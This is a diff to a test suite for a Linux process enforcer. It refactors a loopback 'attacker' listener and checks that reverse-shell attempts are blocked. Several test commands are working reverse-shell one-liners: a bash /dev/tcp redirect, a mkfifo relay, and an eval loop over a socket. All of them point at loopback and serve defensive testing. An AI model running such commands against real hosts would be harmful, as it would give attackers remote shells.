@@ -5,11 +5,11 @@
 
 import { spawnSync } from "node:child_process";
 import { chmodSync, copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
-import { createServer } from "node:net";
-import type { Server } from "node:net";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { expectExit, validateEventsAfterEach } from "./helpers/assert.js";
 import { blockedExecs, describeExecs } from "./helpers/events.js";
+import { tcpListener } from "./helpers/listeners.js";
+import type { TcpListener } from "./helpers/listeners.js";
 import { ARCH, ENFORCER, LOADER, ensureBuilt, probe } from "./helpers/paths.js";
 import { runEnforcer } from "./helpers/run.js";
 import type { Mechanism, RunResult } from "./helpers/run.js";
@@ -22,36 +22,9 @@ const PYTHON = "/usr/bin/python3";
 const LIBM = `/lib/${ARCH === "arm64" ? "aarch64" : "x86_64"}-linux-gnu/libm.so.6`;
 const POLICY = ["vigil-policy 1", "exec.drift block", "exec.fileless block", "exec.loader block", "exec.reverseShell block", "end", ""].join("\n");
 
-/** A loopback "attacker": sends one line of commands to whoever connects, records what comes back. */
-interface Attacker {
-  port: number;
-  received(): string;
-  close(): Promise<void>;
-}
-
-async function attacker(host: string): Promise<Attacker> {
-  const chunks: Buffer[] = [];
-  const server: Server = createServer((socket) => {
-    socket.on("data", (b: Buffer) => chunks.push(b));
-    socket.on("error", () => undefined);
-    // an external program (not a shell builtin) proves that the shell runs commands
-    socket.write("/bin/echo SHELL-$((6*7)); exit\n");
-  });
-  await new Promise<void>((resolve, reject) => {
-    server.once("error", reject);
-    server.listen(0, host, () => resolve());
-  });
-  const address = server.address();
-  if (address === null || typeof address === "string") throw new Error("attacker listener has no port");
-  return {
-    port: address.port,
-    received: () => Buffer.concat(chunks).toString("latin1"),
-    close: () =>
-      new Promise<void>((resolve) => {
-        server.close(() => resolve());
-      }),
-  };
-}
+/** A loopback "attacker": sends one line of commands to whoever connects, records what comes back.
+ * An external program (not a shell builtin) proves that the shell runs commands. */
+const attacker = (host: string): Promise<TcpListener> => tcpListener(host, "/bin/echo SHELL-$((6*7)); exit\n");
 
 let tmp: TempDir;
 beforeAll(() => {
@@ -135,7 +108,7 @@ os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
     try {
       const r = await bash(mechanism, command(a.port));
       expectBlockedBy(r, "exec.reverseShell");
-      expect(a.received()).not.toContain("SHELL-42");
+      expect(a.bytes()).not.toContain("SHELL-42");
     } finally {
       await a.close();
     }
@@ -150,7 +123,7 @@ os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
     try {
       const r = await bash(mechanism, `rm -f f; mkfifo f; ${shell} 2>&1 | ${PYTHON} ${tmp.join("relay.py")} ${a.port} > f; rm -f f; exit 0`);
       expectBlockedBy(r, "exec.reverseShell");
-      expect(a.received()).not.toContain("SHELL-42");
+      expect(a.bytes()).not.toContain("SHELL-42");
     } finally {
       await a.close();
     }
@@ -175,7 +148,7 @@ os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
     try {
       const r = await bash(mechanism, `${tmp.join("relay/socat")} -c 'exec 5<>/dev/tcp/127.0.0.1/${a.port}; read -r l <&5; eval "$l" >&5 2>&5'`);
       expectBlockedBy(r, "exec.reverseShell");
-      expect(a.received()).not.toContain("SHELL-42");
+      expect(a.bytes()).not.toContain("SHELL-42");
     } finally {
       await a.close();
     }
@@ -186,7 +159,7 @@ os.system("bash -c \\"bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1\\"")'`,
     try {
       const r = await bash(mechanism, `bash -c 'sh -i >& /dev/udp/127.0.0.1/9 0>&1'; bash -c 'bash -i >& /dev/tcp/::1/${a6.port} 0>&1'; exit 0`);
       expectBlockedBy(r, "exec.reverseShell", 2);
-      expect(a6.received()).not.toContain("SHELL-42");
+      expect(a6.bytes()).not.toContain("SHELL-42");
     } finally {
       await a6.close();
     }
@@ -224,7 +197,7 @@ describe("the enforcer's resource limits are not the application's to change", (
       expect(r.stdout).toMatch(/^cpu=1$/m);
       expect(r.stdout).toMatch(/^self=0$/m); // the neighbour: a process still sets its own limits
       expectBlockedBy(r, "exec.reverseShell");
-      expect(a.received()).not.toContain("SHELL-42");
+      expect(a.bytes()).not.toContain("SHELL-42");
     } finally {
       await a.close();
     }
